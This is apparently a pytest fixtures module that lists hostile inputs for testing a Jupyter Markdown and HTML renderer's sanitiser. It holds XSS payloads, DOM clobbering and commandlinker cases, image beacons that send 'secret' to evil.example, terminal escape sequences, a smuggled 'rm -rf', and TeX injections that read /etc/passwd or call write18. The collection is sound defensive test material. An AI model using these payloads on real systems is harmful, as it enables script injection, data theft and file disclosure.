"""Hostile texts: the lists made by others, beside this checkout, and cases written after what front ends got wrong."""

from __future__ import annotations

import functools
import json
from pathlib import Path

import pytest

VECTORS = Path(__file__).parents[1] / "../shared/vectors"
needs_vectors = pytest.mark.skipif(not VECTORS.is_dir(), reason="the shared vectors are not beside this checkout")
EVIL = "https://evil.example"


@functools.cache
def payloads() -> tuple[str, ...]:
    """6,613 attacks and 515 naughty strings."""
    lines = (VECTORS / "xss-payloadbox.txt").read_text(encoding="utf-8", errors="replace").split("\n")
    naughty = json.loads((VECTORS / "blns.json").read_text(encoding="utf-8"))
    return (*filter(None, lines), *naughty)


WRITTEN = (
    # JupyterLab's command linker: a click runs a command (GHSA-9q39-rmj3-p4r2 and its successors).
    '<a data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}" href="#">run</a>',
    '<button data-commandlinker-command="terminal:create-new">x</button>',
    '[x](https://example.org){data-commandlinker-command="filebrowser:delete"}',
    # Clobbering of the page's own names (CVE-2024-43805).
    '<img name="getElementById"><form name="documentElement"><input name="attributes"></form>',
    f'<a id="config"></a><a id="config" name="baseUrl" href="{EVIL}">x</a>',
    f'<script id="jupyter-config-data" type="application/json">{{"baseUrl": "{EVIL}/"}}</script>',
    "# heading {#jupyter-config-data}",
    # Forms and their controls.
    f'<form action="{EVIL}" method="post"><input name="_xsrf" autofocus onfocus=alert(1)><button>Log in</button></form>',
    f'<button form="x" formaction="{EVIL}">x</button><input type="image" src="{EVIL}/i.png"><select autofocus onfocus=alert(1)>',
    '<button popovertarget="x">x</button><dialog open>Session expired</dialog><label for="jp-main">x</label><textarea>',
    # Links.
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#x09;script:alert(1))", "[x](java&Tab;script:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))", "[x](\x01javascript:alert(1))", "[x](<java\tscript:alert(1)>)", "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))",
    "[x](javascript&#58;alert(1))", "[x](%6Aavascript:alert(1))", "[x](//evil.example/x)", "[x](\\\\evil.example\\x)", "[x](blob:x)",
    '[x](https://example.org "a\\" onmouseover=\\"alert(1)")', '[x](https://example.org/"onmouseover=alert(1)//)', "[x](file:///etc/passwd)",
    '[x](https://example.org "t [K7] <img src=x onerror=alert(1)>")',
    "[x](https://example.org 't\u202e[K7]' ) [K7](https://example.org/[K7])",
    f'<a href="{EVIL}" ping="{EVIL}/ping" target="_self">x</a>',
    # Images, and all else that loads by itself.
    f"![x]({EVIL}/?q=secret)", f"![x][r]\n\n[r]: {EVIL}/?q=secret", f"[![x]({EVIL}/1.png)](https://example.org)", "![x](//evil.example/1.png)",
    f'<img srcset="{EVIL}/1.png 1x, {EVIL}/2.png 2x">', f'<picture><source srcset="{EVIL}/1.webp"><img></picture>',
    f'<video poster="{EVIL}/p.png" autoplay><source src="{EVIL}/v.mp4"></video><audio src="{EVIL}/a.mp3" autoplay>',
    f'<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="{EVIL}/x.swf"><embed src="{EVIL}/x.svg">',
    f'<link rel="stylesheet" href="{EVIL}/x.css"><link rel="dns-prefetch" href="//evil.example"><link rel="preload" as="image" href="{EVIL}/x.png">',
    f'<base href="{EVIL}/"><a href="x">x</a>', f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<style>@import url("{EVIL}/x.css"); * {{ background: url({EVIL}/x.png) }}</style>', f'<p style="background:url({EVIL}/x.png);position:fixed;inset:0">x</p>',
    f'<table background="{EVIL}/x.png"><tr><td style="content:url({EVIL}/y.png)">', f'<body background="{EVIL}/x.png" onload=alert(1)>',
    f'<script type="speculationrules">{{"prefetch": [{{"urls": ["{EVIL}/"]}}]}}</script>',
    # What sanitisers and parsers have disagreed on.
    "<svg><style><img src=x onerror=alert(1)></style></svg>", '<svg><animate onbegin=alert(1) attributeName=x dur=1s><a xlink:href="javascript:alert(1)"><text>x</text></a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)"><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<template shadowrootmode="open"><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', "<plaintext>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "</style></div></details><script>alert(1)</script>", "<details open ontoggle=alert(1)>", '<div class="jp-RenderedHTML lm-Widget fnb-answer">x</div>',
    "http://a.example/\\<img src=x onerror=alert(1)>", "http://a.example/`x\n`<img src=x onerror=alert(1)>", "www.a.example/\\<script>alert(1)</script>",
    "a `$ <img src=x onerror=alert(1)> `$ b", "$$\n```\n$$\n<img src=x onerror=alert(1)>\n```", "`a\n$$\nb`\n<img src=x onerror=alert(1)>\n$$",
    "```html\n<img src=x onerror=alert(1)>\n```", "    <img src=x onerror=alert(1)>", "| `a | b` |\n|-|-|\n| `<img src=x onerror=alert(1)> | ` |",
    "\\begin{x}`\\end{x}<img src=x onerror=alert(1)>`", "~~~\n```\n~~~\n<img src=x onerror=alert(1)>\n```", "[^1]: `<img src=x onerror=alert(1)>\n\n[^1]`",
    # Formulas that reach out of themselves.
    r"$\href{javascript:alert(1)}{x}$", r"$$\require{html}\style{background:url(https://evil.example/x)}{x}$$", r"\(\class{jp-mod-active}{x}\)",
    r"$\unicode{x3c}script>alert(1)$", "$<img src=x onerror=alert(1)>$", r"\[\text{</p><img src=x onerror=alert(1)>}\]",
)  # fmt: skip
"""After JupyterLab's own advisories, and what Markdown's readers make of the same text differently."""

CONTROLS = (
    *(f"a{chr(code)}b" for code in (*range(0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))),
    "\x1b]52;c;ZXZpbA==\x07", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b]0;title\x07", "\x1b]2;t\x9c", "\x1b[2J\x1b[H", "\x1b[31m",
    "\x1bP+q544e\x1b\\", "\x90q#0\x9c", "\x1b_G\x1b\\", "\x1b^x\x1b\\", "\x1bXx\x1b\\", "\x1b[5i", "\x1b[6n", "\x1bc", "\x1b(0", "\x9b31m",
    "\x9d52;c;ZXZpbA==\x9c", "\x1b]1337;File=:\x07", "\x1b]777;notify;a;b\x07", "\x1b[?1049h", "\x1b[>4;2m", "safe\rrm -rf", "a\x08\x08b",
    "\ud800", "a\udfffb", "\ud83d", "\x1b\ud800[31m",
)  # fmt: skip
"""Every control character, and the sequences that set a clipboard, a title, a link, a colour, or ask the terminal."""

PANDOC = (
    # TeX that reads, writes and runs, in prose, in formulas, in code that only some readers take for code.
    r"\input{/etc/passwd}", r"\immediate\write18{touch x}", "\\newwrite\\f\n\\immediate\\openout\\f=evil.tex", r"a \def\pi{4} b", r"\catcode`\|=0 |input{x}",
    r"$\input{/etc/passwd}$", r"$$\include{x}$$", r"\(\openin5=x\)", r"\\(\input{x}\\)", r"\\[\input{x}\\]", r"$^^5cinput{x}$", "$a%\n\\input{x}$", r"$\text{\input{x}}$",
    r"$\href{javascript:alert(1)}{x}$", r"a$5 `\input{x}` 6$", r"$5 \input{x} 6$ and $7", r"5$\input{x}$", r"\begin{lstlisting}\input{x}\end{lstlisting}", r"\verb|\input{x}|",
    "\\begin{filecontents}{evil.tex}\nx\n\\end{filecontents}", r"\newcommand{\x}{\input{y}} \x", r"&bsol;input{x} &#92;input{x} &#x5C;input{x}", r"\url{javascript:x}",
    "```{=latex}\n\\input{x}\n```", "~~~ {=latex}\n\\input{x}\n~~~", "`\\input{x}`{=latex}", "``\\input{x}``{=tex}", "`<script>`{=html}", "text\n~~~\n\\input{x}\n~~~",
    "- y\n  ~~~ {=latex}\n  \\input{x}\n  ~~~", "1. a\n   ```\n   \\input{x}\n   ```", "> ```\n> \\input{x}\n> ```", "- a\n\n      \\input{x}", "10) a\n    ~~~\n    \\input{x}\n    ~~~",
    "``` foo ` \\input{x} `", "a ``` `b`\n\\input{x}\n```", "<div>\n```\n\\input{x}\n```\n</div>", "<pre>\n~~~ {=latex}\n\\input{x}\n~~~\n</pre>", "```a`b```\n\\input{x}\n```",
    # Attributes: handlers, names and styles.
    "[hi]{onmouseover=alert(1)}", "[hi](https://a.example){onclick=alert(1)}", "# hi {#jupyter-config-data onclick=alert(1)}", "hi {onclick=alert(1)}\n===", "`x`{onclick=alert(1)}",
    "``` {.python onclick=alert(1)}\nx\n```", "::: {onclick=alert(1)}\nhi\n:::", "::: jp-Dialog\nhi\n:::", ":::: {#x}\n\n::: y\nhi\n:::\n\n::::", "| a |\n|---|\n| b |\n\n: hi {onclick=alert(1)}",
    "| a |\n|---|\n| b |\n\nTable: hi {#x onclick=alert(1)}", "[r]\n\n[r]: https://a.example {onclick=alert(1)}", "5$[hi]{onclick=alert(1)}$", "<https://a.example>{onclick=alert(1)}",
    "[hi]\\{a} [hi]{\n.x onclick=alert(1)}", "- [hi]{style=position:fixed}", "> # hi {onclick=alert(1)}", "*hi*{.x} **hi**{#y}", "$x$[hi]{onclick=alert(1)}", "$a[hi]{onclick=alert(1)}b$",
    # Metadata: it could load bibliographies, filters and styles, and its text would be gone.
    "---\ntitle: hi\nheader-includes: |\n  \\input{x}\n---", "a\n\n---\ncss: https://evil.example/x.css\n...", "> ---\n> bibliography: /etc/passwd\n> ---", "- ---\n  title: x\n  ---",
)  # fmt: skip
"""What pandoc, and with it nbconvert's LaTeX, makes of Markdown that other readers take for plain text."""
